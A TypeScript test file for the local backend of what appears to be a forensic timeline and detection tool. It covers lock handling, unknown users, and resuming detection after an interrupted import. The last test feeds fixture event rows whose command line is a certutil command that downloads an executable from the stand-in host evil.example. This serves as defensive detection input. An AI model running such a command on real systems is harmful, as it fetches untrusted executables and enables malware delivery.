import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { hostname, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { EXIT } from '../../exit-codes.ts'
import { toCliError } from '../../failures.ts'
import type { Backend } from '../backend.ts'
import { openLocalBackend } from './open-local-backend.ts'

/** Above what Linux gives to processes. */
const NO_PROCESS = 4_194_305

let dataDirectory: string

beforeEach(async () => {
  dataDirectory = await mkdtemp(join(tmpdir(), 'skein-local-'))
})
afterEach(async () => {
  await rm(dataDirectory, { recursive: true, force: true })
})

async function leaveLock(host: string): Promise<void> {
  const holder = { pid: NO_PROCESS, host, startedAt: '2026-03-01T00:00:00.000Z' }
  await writeFile(join(dataDirectory, 'lock.json'), JSON.stringify(holder))
}

async function open(username: string, signal = new AbortController().signal): Promise<Backend> {
  return await openLocalBackend({ dataDirectory, username, tellOnce: () => {}, signal })
}

test('a lock of a process of this machine that is gone is taken over with a remark', async () => {
  await leaveLock(hostname())
  await using backend = await open('admin')
  expect(backend.notes).toContainEqual(
    expect.stringMatching(new RegExp(`process ${NO_PROCESS} .*is gone; its lock was taken over`)),
  )
})

test('a lock of another machine is refused by its name and process', async () => {
  await leaveLock('elsewhere.example')
  const error: unknown = await open('admin').catch((thrown: unknown) => thrown)
  expect(toCliError(error)).toMatchObject({
    exitCode: EXIT.unavailable,
    message: expect.stringContaining(`process ${NO_PROCESS} on elsewhere.example`) as string,
  })
})

test('an unknown user leaves the data directory free', async () => {
  await expect(open('nobody')).rejects.toMatchObject({
    code: 'user-not-found',
  })
  await using backend = await open('admin')
  expect(backend.place).toBe(dataDirectory)
})

test('closing after Ctrl-C leaves the look at what was imported for the next time', async () => {
  const path = join(dataDirectory, 'rows.jsonl')
  const importRow = async (backend: Backend, command: string): Promise<number> => {
    await writeFile(
      path,
      `${JSON.stringify({ datetime: '2026-03-01T10:00:00Z', message: command, EventID: 4688, Channel: 'Security', NewProcessName: 'C:\\Windows\\System32\\certutil.exe', CommandLine: command, Computer: 'WS-1' })}\n`,
    )
    const [sketch = await backend.createSketch('case')] = await backend.listSketches()
    const { signal } = new AbortController()
    const reading = { sketchId: sketch.id, timeline: 'rows', files: [{ path }], reading: {}, signal }
    await backend.importFiles({ ...reading, onProgress: () => {} })
    return sketch.id
  }
  const interruption = new AbortController()
  const first = await open('admin', interruption.signal)
  await importRow(first, 'certutil -urlcache -f http://evil.example/a a.exe')
  interruption.abort()
  await first[Symbol.asyncDispose]()
  await using second = await open('admin')
  expect(await second.alerts.list({}, 10)).toMatchObject({ total: 0 })
  const sketchId = await importRow(second, 'certutil -urlcache -f http://evil.example/b b.exe')
  await second.waitForDetection(sketchId, new AbortController().signal)
  expect(await second.alerts.list({}, 10)).toMatchObject({ items: [{ count: 2 }] })
})
